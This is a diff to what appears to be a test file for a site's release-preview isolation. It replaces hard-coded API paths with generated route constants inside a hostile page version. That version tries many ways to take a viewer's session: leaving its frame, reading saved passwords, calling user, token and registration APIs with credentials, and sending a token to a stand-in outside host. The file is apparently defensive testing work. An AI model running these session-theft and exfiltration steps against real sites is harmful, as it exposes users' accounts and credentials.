@@ -1,4 +1,7 @@
+import { operationRoutes } from '../api/routes.generated.ts'
 import { replacePages } from '../publishing/badVersions.ts'
+
+const { listUsers, me, refreshToken, createPreview, register } = operationRoutes
 
 /**
  * Code of a version that tries every known way to the session of the person who opens it, to other pages of the site and to
@@ -100,20 +103,20 @@ const THEFT = `
     'a link that leaves the frame': () => link('/dashboard/db/sql', '_top'),
     'moving the tab': () => { top.location.href = '/dashboard' },
     'moving the tab by its history': () => top.history.back(),
-    'a form that leaves the frame': () => post('/api/auth/register', '_top', person),
+    'a form that leaves the frame': () => post('${register.path}', '_top', person),
     'stored passwords': () => navigator.credentials.get({ password: true, mediation: 'silent' }),
     'the storage access API': async () => {
       await document.requestStorageAccess()
       return localStorage.accessToken
     },
-    'the API with what the browser sends': () => read('/api/users/getAll', { credentials: 'include' }),
-    'the API with the token of the preview': () => read('/api/users/getAll', { headers: { authorization: 'Bearer ' + token } }),
-    'a response in the browser’s cache': () => read('/api/auth/me', { cache: 'force-cache' }),
-    'who is signed in': () => read('/api/auth/me', { headers: { authorization: 'Bearer ' + token } }),
-    'a new session': () => read('/api/auth/refresh-token', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
-    'a new preview': () => read('/api/releases/previews', { method: 'POST', body: JSON.stringify({ versions: { academy: '6.6.6' } }), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
-    'a new account': () => read('/api/auth/register', { method: 'POST', body: JSON.stringify(person), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
-    'a new account without a preflight': () => read('/api/auth/register', { method: 'POST', mode: 'no-cors', body: JSON.stringify(person), credentials: 'include' }),
+    'the API with what the browser sends': () => read('${listUsers.path}', { credentials: 'include' }),
+    'the API with the token of the preview': () => read('${listUsers.path}', { headers: { authorization: 'Bearer ' + token } }),
+    'a response in the browser’s cache': () => read('${me.path}', { cache: 'force-cache' }),
+    'who is signed in': () => read('${me.path}', { headers: { authorization: 'Bearer ' + token } }),
+    'a new session': () => read('${refreshToken.path}', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
+    'a new preview': () => read('${createPreview.path}', { method: 'POST', body: JSON.stringify({ versions: { academy: '6.6.6' } }), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
+    'a new account': () => read('${register.path}', { method: 'POST', body: JSON.stringify(person), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
+    'a new account without a preflight': () => read('${register.path}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(person), credentials: 'include' }),
     'another host': () => read('https://otra.example/?' + token),
     'a socket': () => new Promise((resolve) => {
       const socket = new WebSocket(location.origin.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket')
